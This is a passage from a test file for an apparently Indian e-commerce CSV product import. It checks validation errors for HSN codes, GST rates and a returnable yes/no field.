        `title,category,regular_price,hsn,gst_rate\nNew Scarf,Women,499,62,12\nOther Scarf,Women,499,6214,abc\n`,
      );
      expect(bad.errors).toEqual([
        { line: 2, error: 'hsn: must be an HSN code of 4, 6 or 8 digits' },
        { line: 3, error: 'gst_rate: must be a GST rate in percent' },
      ]);
      const notInForce = await importCsv(
        `title,category,regular_price,gst_rate\nNew Scarf,Women,499,12\n`,
      );
      expect(notInForce.errors).toEqual([
        { line: 2, error: 'gst_rate: must be one of the GST rates in force: 0 %, 5 %, 18 %, 40 %' },
      ]);
      const returnable = await importCsv(
        `product_id,title,category,regular_price,returnable\n${id},Legal Kurta,Men,1599,yes\n`,
      );
      expect(returnable).toMatchObject({ updated: 1, errors: [] });
      expect((await publicProduct(id)).json<Product>().details.returnable).toBe(true);
      const unclear = await importCsv(
        `title,category,regular_price,returnable\nNew Scarf,Women,499,maybe\n`,
      );
      expect(unclear.errors).toEqual([{ line: 2, error: 'returnable: must be yes or no' }]);
      await patch(id, details);
    });
  });
});
